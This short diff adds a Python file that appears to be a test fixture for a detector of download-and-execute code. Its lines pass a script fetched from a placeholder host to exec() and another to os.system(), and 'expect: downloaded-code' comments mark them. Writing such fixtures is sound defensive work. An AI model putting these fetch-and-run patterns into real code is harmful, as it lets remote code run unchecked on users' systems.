@@ -1,0 +1,9 @@
+import os
+import requests
+from urllib.request import urlopen
+
+# expect: downloaded-code
+exec(requests.get("https://files.example.com/a.py").text)
+script = urlopen("https://files.example.com/b.sh").read().decode()
+# expect: downloaded-code
+os.system(script)
